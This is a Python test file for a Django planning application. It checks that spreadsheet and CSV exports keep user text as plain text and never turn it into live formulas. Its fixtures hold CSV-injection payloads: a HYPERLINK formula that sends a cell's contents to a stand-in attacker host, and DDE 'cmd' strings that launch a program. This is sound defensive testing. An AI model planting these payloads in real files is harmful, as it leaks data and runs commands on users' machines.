"""Hole 4: text from documents or users (`=HYPERLINK(…)`, `=cmd|…`, `@SUM(…)`) leaves duikou in every .xlsx as
text, never as a formula, and starts no CSV cell live."""

import csv
import io
import json

import pytest
from django.test import Client
from openpyxl import load_workbook

from duikou.core import permissions as perms

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
CMD = "=cmd|' /C calc'!A0"
TRICKS = (HYPERLINK, CMD, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1+1")

PLAN = {
    "schema": "duikou.plan/1",
    "title": HYPERLINK,
    "doc_number": "测试〔2024〕2号",
    "issuer": "福州市人民政府",
    "issued_on": "2024-03-01",
    "period": {"start_year": 2024, "end_year": 2024},
    "donors": ["福州市"],
    "recipients": ["固原市"],
    "pairings": [{"donor": "马尾区", "recipient": "西吉县"}],
    "funding": [{"source": "福州市", "year": 2024, "amount_yuan": 1000000, "text": CMD}],
    "targets": [
        {
            "text": CMD,
            "indicator": "@SUM(1+1)*cmd|' /C calc'!A0",
            "value": 10,
            "unit": "person",
            "comparator": ">=",
            "year": 2024,
            "allocations": [{"unit": "马尾区", "value": 10}],
        }
    ],
    "tasks": [
        {
            "number": "1",
            "path": ["一", "1"],
            "title": CMD,
            "text": HYPERLINK,
            "lead_units": ["马尾区"],
            "support_units": [],
            "deadline": "+1+1",
            "due": "2024-07-31",
        },
        {
            "number": "2",
            "path": ["一", "2"],
            "title": "-2+3",
            "text": "\t=1+1",
            "lead_units": ["马尾区"],
            "support_units": [],
            "deadline": "",
            "due": "2024-08-31",
        },
    ],
}


@pytest.fixture
def evil_plan(db, make_user):
    from duikou.plans.importer import import_plan_data
    from duikou.projects.models import Project

    office = make_user("office", perms.OFFICE_ADMIN)
    plan = import_plan_data(
        PLAN, source_bytes=json.dumps(PLAN).encode(), source_name="evil.json", user=office
    ).plan
    Project.objects.create(
        program=plan.program,
        plan=plan,
        name=CMD,
        sector=HYPERLINK,
        status=Project.APPROVED,
        recipient=plan.program.recipients.first(),
    )
    plan.program.is_public = True
    plan.program.save()
    return plan, office


def _assert_no_formula(data: bytes, where: str) -> int:
    """Every cell of every sheet: no formula, and the hostile texts kept verbatim as text."""
    book = load_workbook(io.BytesIO(data))
    texts = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (
                    f"{where} {sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                )
                if isinstance(cell.value, str) and any(t.strip() in cell.value for t in TRICKS):
                    texts += 1
    assert texts, f"{where}: the hostile text is not in the file at all"
    return texts


@pytest.mark.django_db
def test_every_xlsx_export_keeps_formulas_as_text(evil_plan, client):
    from duikou.exchange.exports import allocations_xlsx
    from duikou.exchange.tasktable import export_task_table

    plan, office = evil_plan
    _assert_no_formula(export_task_table(plan), "任务分工表")
    _assert_no_formula(allocations_xlsx(office, plan_id=plan.pk), "目标分解")
    client.force_login(office)
    for url in (
        "/plans/tasks/?export=xlsx",
        "/targets/?export=xlsx",
        "/funds/?export=xlsx",
        "/projects/?export=xlsx",
        "/plans/?export=xlsx",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        _assert_no_formula(
            b"".join(response.streaming_content) if response.streaming else response.content, url
        )


@pytest.mark.django_db
def test_the_task_table_reads_back_the_same_text(evil_plan):
    from duikou.exchange.tasktable import export_task_table

    plan, _office = evil_plan
    book = load_workbook(io.BytesIO(export_task_table(plan)))
    values = [c.value for row in book.active.iter_rows() for c in row if isinstance(c.value, str)]
    assert HYPERLINK + "任务分工表" in values and "+1+1" in values, values


@pytest.mark.django_db
def test_no_csv_cell_starts_a_formula(evil_plan):
    from duikou.exchange import opendata

    plan, _office = evil_plan
    program = plan.program
    seen = 0
    for dataset in opendata.COLUMNS:
        body = Client().get(f"/open/programs/{program.pk}/{dataset}.csv")
        assert body.status_code == 200, dataset
        text = body.content.decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"{dataset}.csv: {cell!r}"
                seen += cell.startswith("'=")
    assert seen, "the hostile texts should be in the open data, quoted"


def test_the_one_owner():
    from duikou.core.cells import csv_text

    assert csv_text("=1+1") == "'=1+1" and csv_text("万州区") == "万州区" and csv_text("") == ""
